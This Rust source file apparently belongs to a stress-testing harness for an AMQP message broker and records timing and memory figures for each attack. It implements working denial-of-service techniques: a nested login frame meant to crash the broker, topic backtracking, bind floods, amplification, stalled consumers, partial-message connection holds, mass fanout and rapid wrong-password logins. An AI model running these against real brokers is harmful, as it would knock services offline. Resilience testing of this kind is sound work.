//! The client side of each attack of issue 5. Each returns `key=value` tokens for the figures line;
//! the broker's memory and the probe's wait are added by `main`.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use amq_protocol::frame::{AMQPContentHeader, AMQPFrame};
use amq_protocol::protocol::{basic, connection, queue, AMQPClass, BasicProperties};
use amq_protocol::types::FieldTable;
use amq_protocol::uri::AMQPUri;

use crate::conn::{self, err, Conn, Context, Result, CHANNEL};
use crate::monitor::RssSampler;
use crate::ops;
use crate::raw::{self, Nesting, Raw};

/// Where the broker is.
pub struct Target {
    /// Broker URL.
    pub uri: AMQPUri,
    /// Its socket address (for raw sessions).
    pub addr: SocketAddr,
}

impl Target {
    /// A new connection with channel 1 open, within 30 s.
    pub async fn conn(&self) -> Result<Conn> {
        match tokio::time::timeout(Duration::from_secs(30), Conn::open(&self.uri)).await {
            Ok(r) => r,
            Err(_) => err("connect: timeout (30 s)"),
        }
    }
}

/// A short token for an error: `closed:541`, `timeout`, `refused`, `error`.
pub fn short_err(e: &str) -> String {
    if e.contains("timeout") {
        return "timeout".into();
    }
    if e.contains("Connection refused") || e.contains("connection refused") {
        return "refused".into();
    }
    if let Some(i) = e.find("closed") {
        if let Some(code) = e[i..]
            .split(|c: char| !c.is_ascii_digit())
            .find(|w| w.len() == 3)
        {
            return format!("closed:{code}");
        }
        return "closed".into();
    }
    "error".into()
}

fn ms(d: Duration) -> String {
    format!("{}", d.as_millis())
}

/// Attack 0: One AMQPLAIN login response nested `depth` deep.
pub async fn login_nesting(t: &Target, nesting: Nesting, depth: usize) -> Result<String> {
    let mut r = Raw::connect_started(t.addr).await?;
    let response = raw::nested_amqplain(nesting, depth);
    let bytes = raw::start_ok("AMQPLAIN", &response);
    let len = bytes.len();
    // The server may close before reading everything: a failed write is part of the outcome.
    let _ = r.send(&bytes).await;
    let end = r.outcome(Duration::from_secs(10)).await;
    // An aborting process closes its sockets before it is gone: give it time to finish dying.
    tokio::time::sleep(Duration::from_millis(500)).await;
    Ok(format!("frame_bytes={len} reply={}", end.token()))
}

/// Attack 1: A topic binding full of `#` and publishes whose key never matches it.
pub async fn topic_backtrack(t: &Target, words: &[usize], limit: Duration) -> Result<String> {
    let mut c = t.conn().await?;
    ops::declare_exchange(&mut c, "abuse.topic", "topic").await?;
    ops::declare_queue(&mut c, "abuse.topic.q", false).await?;
    // 49 bytes: "#.a." × 12 + "b".
    let key = format!("{}b", "#.a.".repeat(12));
    debug_assert_eq!(key.len(), 49);
    let reply = c
        .call(ops::bind_method("abuse.topic.q", "abuse.topic", &key))
        .await?;
    if !matches!(reply, AMQPClass::Queue(queue::AMQPMethod::BindOk(_))) {
        return err(format!("expected bind-ok, got {reply:?}"));
    }
    c.confirm_select().await?;
    let mut out = Vec::new();
    for &w in words {
        let rk = vec!["a"; w].join(".");
        let frames = ops::encode_publish(c.frame_max, "abuse.topic", &rk, 10, false)?;
        let o =
            ops::publish_confirmed(&mut c, &frames, 1, 1, 1, Instant::now() + limit, limit).await;
        if o.acked + o.nacked == 1 {
            out.push(format!("publish_ms_{w}w={}", ms(o.elapsed)));
        } else {
            out.push(format!("publish_ms_{w}w=timeout(>{}s)", limit.as_secs()));
            break; // the connection is stuck behind that publish
        }
    }
    Ok(out.join(" "))
}

/// Attack 2: `count` queue.bind frames in one write; time until every bind-ok.
pub async fn bind_burst(t: &Target, count: usize, limit: Duration) -> Result<String> {
    let mut c = t.conn().await?;
    ops::declare_exchange(&mut c, "abuse.direct", "direct").await?;
    ops::declare_queue(&mut c, "abuse.bind.q", false).await?;
    for i in 0..count {
        c.push_method(
            CHANNEL,
            ops::bind_method("abuse.bind.q", "abuse.direct", &format!("key.{i}")),
        )?;
    }
    let t0 = Instant::now();
    let deadline = tokio::time::Instant::now() + limit;
    let bytes = c.wbuf.len();
    let mut oks = 0;
    let run = async {
        c.flush().await?;
        while oks < count {
            match c.recv_method(CHANNEL).await? {
                AMQPClass::Queue(queue::AMQPMethod::BindOk(_)) => oks += 1,
                other => return err(format!("expected bind-ok, got {other:?}")),
            }
        }
        Ok(())
    };
    let r = tokio::time::timeout_at(deadline, run).await;
    let took = t0.elapsed();
    Ok(match r {
        Ok(Ok(())) => format!("binds={count} write_bytes={bytes} bind_ms={}", ms(took)),
        Ok(Err(e)) => format!(
            "binds={count} bind_ok={oks} bind_ms={} error={}",
            ms(took),
            short_err(&e.0)
        ),
        Err(_) => format!(
            "binds={count} bind_ok={oks} bind_ms=timeout(>{}s)",
            limit.as_secs()
        ),
    })
}

/// Options of a plain publish run.
pub struct PublishOpts {
    /// Queue.
    pub queue: String,
    /// Declare the queue durable.
    pub durable: bool,
    /// delivery_mode 2.
    pub persistent: bool,
    /// Messages.
    pub count: u64,
    /// Body bytes.
    pub size: usize,
    /// Unconfirmed publishes in flight.
    pub window: u64,
    /// Give up after this long.
    pub limit: Duration,
    /// Give up when nothing is confirmed for this long.
    pub stall: Duration,
}

/// Publish confirmed messages to a queue; reports confirms, the queue depth afterwards, and the
/// broker's memory cost per queued message (RSS growth / depth) when RSS is being sampled.
pub async fn publish(t: &Target, o: &PublishOpts, rss: Option<&RssSampler>) -> Result<String> {
    let mut c = t.conn().await?;
    ops::declare_queue(&mut c, &o.queue, o.durable).await?;
    let out = fill(&mut c, o).await?;
    let mut s = format!("{} publish_ms={}", out.tokens(), ms(out.elapsed));
    s.push_str(&depth_and_cost(t, &o.queue, rss).await);
    // Leave the publishing connection open until the figures are taken (closing it could free
    // buffers); it is dropped here.
    drop(c);
    Ok(s)
}

/// Confirm mode on `c`, then `o.count` confirmed publishes to the (already declared) `o.queue`.
pub(crate) async fn fill(c: &mut Conn, o: &PublishOpts) -> Result<ops::PubOutcome> {
    c.confirm_select().await?;
    let frames = ops::encode_publish(c.frame_max, "", &o.queue, o.size, o.persistent)?;
    Ok(ops::publish_confirmed(
        c,
        &frames,
        1,
        o.count,
        o.window,
        Instant::now() + o.limit,
        o.stall,
    )
    .await)
}

/// ` queued=N [per_msg_b=X]`, or ` queued=err:…`.
async fn depth_and_cost(t: &Target, queue_name: &str, rss: Option<&RssSampler>) -> String {
    let depth = async {
        let mut c = t.conn().await?;
        ops::count(&mut c, queue_name).await
    };
    match tokio::time::timeout(Duration::from_secs(15), depth).await {
        Ok(Ok(d)) => {
            let mut s = format!(" queued={d}");
            if let (Some(rss), true) = (rss, d > 0) {
                let grown = rss.now_kb().saturating_sub(rss.start_kb()) * 1024;
                s.push_str(&format!(" per_msg_b={}", grown / d as u64));
            }
            s
        }
        Ok(Err(e)) => format!(" queued={}", short_err(&e.0)),
        Err(_) => " queued=timeout".into(),
    }
}

/// Passive-declare `queue` (message count).
pub async fn count(t: &Target, queue_name: &str) -> Result<String> {
    let mut c = t.conn().await?;
    Ok(format!("count={}", ops::count(&mut c, queue_name).await?))
}

/// Disk attack (5): what still works on a full disk: passive declare, get + ack, purge, each on
/// its own connection, since on failure the broker may close it.
pub async fn disk_ops(t: &Target, queue_name: &str) -> Result<String> {
    let limit = Duration::from_secs(10);
    async fn with_conn<F, Fut, T>(t: &Target, limit: Duration, f: F) -> String
    where
        F: FnOnce(Conn) -> Fut,
        Fut: std::future::Future<Output = Result<T>>,
        T: std::fmt::Display,
    {
        let r = tokio::time::timeout(limit, async {
            let c = t.conn().await?;
            f(c).await
        })
        .await;
        match r {
            Ok(Ok(v)) => format!("ok({v})"),
            Ok(Err(e)) => short_err(&e.0),
            Err(_) => "timeout".into(),
        }
    }
    let q = queue_name.to_string();
    let passive = with_conn(
        t,
        limit,
        |mut c| async move { ops::count(&mut c, &q).await },
    )
    .await;
    let q = queue_name.to_string();
    let get = with_conn(t, limit, |mut c| async move {
        Ok(if ops::get_and_ack(&mut c, &q).await? {
            "acked"
        } else {
            "empty"
        })
    })
    .await;
    let q = queue_name.to_string();
    let purge = with_conn(
        t,
        limit,
        |mut c| async move { ops::purge(&mut c, &q).await },
    )
    .await;
    Ok(format!("passive={passive} get_ack={get} purge={purge}"))
}

/// Attack 7: `count` one-byte messages to a queue, each followed by a large message no queue takes.
pub async fn amplify(
    t: &Target,
    count: u64,
    big: usize,
    rss: Option<&RssSampler>,
) -> Result<String> {
    let q = "abuse.amp";
    let mut c = t.conn().await?;
    ops::declare_queue(&mut c, q, false).await?;
    c.confirm_select().await?;
    let mut frames = ops::encode_publish(c.frame_max, "", q, 1, false)?;
    frames.extend(ops::encode_publish(
        c.frame_max,
        "",
        "abuse.nowhere",
        big,
        false,
    )?);
    let out = ops::publish_confirmed(
        &mut c,
        &frames,
        2,
        count,
        256,
        Instant::now() + Duration::from_secs(60),
        Duration::from_secs(10),
    )
    .await;
    // Let the broker settle so the figure is what it holds, not what is in flight.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let mut s = format!("{} publish_ms={}", out.tokens(), ms(out.elapsed));
    s.push_str(&depth_and_cost(t, q, rss).await);
    drop(c);
    Ok(s)
}

/// Attack 8: queue `count` persistent messages in a durable queue, then a consumer with prefetch 0
/// that never reads; hold it for `hold`.
pub async fn stalled_consumer(
    t: &Target,
    count: u64,
    size: usize,
    hold: Duration,
    rss: Option<&RssSampler>,
) -> Result<String> {
    let q = "abuse.stall";
    let mut c = t.conn().await?;
    ops::declare_queue(&mut c, q, true).await?;
    ops::purge(&mut c, q).await?;
    let o = PublishOpts {
        queue: q.into(),
        durable: true,
        persistent: true,
        count,
        size,
        window: 2000,
        limit: Duration::from_secs(120),
        stall: Duration::from_secs(10),
    };
    let out = fill(&mut c, &o).await?;
    c.close().await;
    let rss_queued = rss.map(|r| r.now_kb() / 1024).unwrap_or(0);
    let mut consumer = t.conn().await?;
    ops::qos(&mut consumer, 0).await?;
    consumer.push_method(
        CHANNEL,
        AMQPClass::Basic(basic::AMQPMethod::Consume(basic::Consume {
            queue: q.into(),
            consumer_tag: "abuse-stalled".into(),
            no_local: false,
            no_ack: false,
            exclusive: false,
            nowait: false,
            arguments: FieldTable::default(),
        })),
    )?;
    consumer.flush().await?;
    // Never read again: whatever the broker sends piles up in its buffers, not ours.
    tokio::time::sleep(hold).await;
    drop(consumer);
    Ok(format!(
        "{} publish_ms={} rss_queued_mb={rss_queued} held_s={}",
        out.tokens(),
        ms(out.elapsed),
        hold.as_secs()
    ))
}

/// Attack 9: `conns` connections each send `send_mb` of a `body_mb` message, then stall for `hold`.
pub async fn partial(
    t: &Target,
    conns: usize,
    body_mb: u64,
    send_mb: u64,
    hold: Duration,
) -> Result<String> {
    let t0 = Instant::now();
    let mut tasks = Vec::new();
    for _ in 0..conns {
        let mut c = t.conn().await?;
        // A publish announcing `body_mb`, and one full body frame to send over and over.
        c.push_method(
            CHANNEL,
            AMQPClass::Basic(basic::AMQPMethod::Publish(basic::Publish {
                exchange: "".into(),
                routing_key: "abuse.partial".into(),
                mandatory: false,
                immediate: false,
            })),
        )?;
        c.push(&AMQPFrame::Header(
            CHANNEL,
            AMQPContentHeader {
                class_id: 60,
                body_size: body_mb << 20,
                properties: BasicProperties::default(),
            },
        ))?;
        let chunk = c.frame_max as usize - 8;
        let body = conn::encode(&AMQPFrame::Body(CHANNEL, vec![b'x'; chunk]), Vec::new())?;
        tasks.push(tokio::spawn(async move {
            let target = (send_mb << 20) as usize;
            let mut queued = 0usize;
            let mut blocked = false;
            let mut closed: Option<u16> = None;
            let send_deadline = Instant::now() + Duration::from_secs(30);
            let hold_end = send_deadline + hold;
            let mut done_at: Option<Instant> = None;
            let mut cut_at: Option<Duration> = None;
            loop {
                while queued < target && c.unwritten() < 1 << 20 {
                    c.wbuf.extend_from_slice(&body);
                    queued += chunk;
                }
                if queued >= target && c.unwritten() == 0 && done_at.is_none() {
                    done_at = Some(Instant::now());
                }
                let end = match done_at {
                    Some(d) => (d + hold).min(hold_end),
                    None => send_deadline,
                };
                if Instant::now() >= end {
                    break;
                }
                let open = tokio::select! {
                    r = c.pump() => r.unwrap_or(false),
                    _ = tokio::time::sleep_until(end.into()) => true,
                };
                while let Ok(Some(f)) = c.next_frame() {
                    match f {
                        AMQPFrame::Method(
                            _,
                            AMQPClass::Connection(connection::AMQPMethod::Blocked(_)),
                        ) => blocked = true,
                        AMQPFrame::Method(
                            _,
                            AMQPClass::Connection(connection::AMQPMethod::Close(cl)),
                        ) => closed = Some(cl.reply_code),
                        _ => {}
                    }
                }
                if !open || closed.is_some() {
                    cut_at = Some(t0.elapsed());
                    break;
                }
            }
            let sent = queued - c.unwritten().min(queued);
            (sent, blocked, closed, cut_at)
        }));
    }
    let mut sent = 0;
    let mut blocked = 0;
    let mut cut = 0;
    let mut first_cut: Option<Duration> = None;
    let mut codes = Vec::new();
    for task in tasks {
        let (s, b, code, at) = task.await.ctx("partial-content task")?;
        sent += s;
        blocked += b as usize;
        if let Some(at) = at {
            cut += 1;
            first_cut = Some(first_cut.map_or(at, |f: Duration| f.min(at)));
        }
        if let Some(code) = code {
            codes.push(code);
        }
    }
    codes.sort();
    codes.dedup();
    let mut s = format!(
        "sent_mb={} blocked={blocked}/{conns} cut_off={cut}/{conns}",
        sent >> 20
    );
    if let Some(f) = first_cut {
        s.push_str(&format!(" first_cut_s={}", f.as_secs()));
    }
    if !codes.is_empty() {
        s.push_str(&format!(
            " close_codes={}",
            codes
                .iter()
                .map(|c| c.to_string())
                .collect::<Vec<_>>()
                .join(",")
        ));
    }
    Ok(s)
}

/// Attack 10: Fanout to each number of queues in `targets`: mean time of one confirmed publish.
pub async fn fanout(t: &Target, targets: &[usize], publishes: u64) -> Result<String> {
    let ex = "abuse.fan";
    let mut c = t.conn().await?;
    ops::declare_exchange(&mut c, ex, "fanout").await?;
    let mut have = 0;
    let mut out = Vec::new();
    for &n in targets {
        // Declare and bind the missing queues, 500 pipelined at a time.
        while have < n {
            let batch = (n - have).min(500);
            for i in have..have + batch {
                let q = format!("abuse.fan.{i}");
                c.push_method(CHANNEL, ops::declare_method(&q))?;
                c.push_method(CHANNEL, ops::bind_method(&q, ex, ""))?;
            }
            c.flush().await?;
            for _ in 0..2 * batch {
                c.recv_method(CHANNEL).await?;
            }
            have += batch;
        }
        // A fresh connection per round, so its delivery tags start at 1.
        let mut p = t.conn().await?;
        p.confirm_select().await?;
        let frames = ops::encode_publish(p.frame_max, ex, "", 16, false)?;
        let o = ops::publish_confirmed(
            &mut p,
            &frames,
            1,
            publishes,
            1,
            Instant::now() + Duration::from_secs(30),
            Duration::from_secs(30),
        )
        .await;
        if o.acked == 0 {
            out.push(format!("ms_per_publish_{n}q=failed({})", o.tokens()));
            break;
        }
        let per = o.elapsed.as_secs_f64() * 1000.0 / o.acked as f64;
        out.push(format!("ms_per_publish_{n}q={per:.2}"));
        p.close().await;
    }
    Ok(out.join(" "))
}

/// Attack 11a: Wrong-password logins, one after another from one client, for `secs`.
pub async fn login_rate(t: &Target, secs: u64) -> Result<String> {
    let end = Instant::now() + Duration::from_secs(secs);
    let t0 = Instant::now();
    let mut attempts = 0u64;
    let mut refusals = Vec::new();
    let mut reply = String::new();
    let bad = raw::start_ok("PLAIN", &raw::plain_response("guest", "wrong-password"));
    while Instant::now() < end {
        let mut r = match Raw::connect_started(t.addr).await {
            Ok(r) => r,
            Err(e) => {
                reply = format!("connect:{}", short_err(&e.0));
                break;
            }
        };
        let sent = Instant::now();
        r.send(&bad).await?;
        let end = r.outcome(Duration::from_secs(30)).await;
        refusals.push(sent.elapsed());
        if reply.is_empty() {
            reply = end.token();
        }
        attempts += 1;
    }
    let elapsed = t0.elapsed().as_secs_f64();
    refusals.sort();
    let pct = |p: f64| {
        refusals
            .get(((refusals.len() as f64 - 1.0) * p) as usize)
            .map_or(0, |d| d.as_millis())
    };
    Ok(format!(
        "attempts={attempts} per_s={:.0} refusal_ms_p50={} refusal_ms_max={} reply={reply}",
        attempts as f64 / elapsed,
        pct(0.5),
        pct(1.0)
    ))
}

/// Attack 11b: Fill a queue with `count` transient messages of `size` bytes, purge and delete it;
/// RSS before and after (the lowest seen in the 10 s after the delete). Small messages fragment the
/// heap, which is what keeps freed memory from going back to the system.
pub async fn trim(t: &Target, count: u64, size: usize, rss: Option<&RssSampler>) -> Result<String> {
    let q = "abuse.trim";
    let mut c = t.conn().await?;
    ops::declare_queue(&mut c, q, false).await?;
    let o = PublishOpts {
        queue: q.into(),
        durable: false,
        persistent: false,
        count,
        size,
        window: 1000,
        limit: Duration::from_secs(60),
        stall: Duration::from_secs(5),
    };
    let out = fill(&mut c, &o).await?;
    c.close().await;
    let full = rss.map(|r| r.now_kb() / 1024).unwrap_or(0);
    let mut c = t.conn().await?;
    let purged = ops::purge(&mut c, q).await?;
    ops::delete(&mut c, q).await?;
    c.close().await;
    let mut low = u64::MAX;
    for _ in 0..10 {
        tokio::time::sleep(Duration::from_secs(1)).await;
        low = low.min(rss.map(|r| r.now_kb() / 1024).unwrap_or(0));
    }
    Ok(format!(
        "{} rss_full_mb={full} purged={purged} rss_after_delete_mb={low}",
        out.tokens()
    ))
}
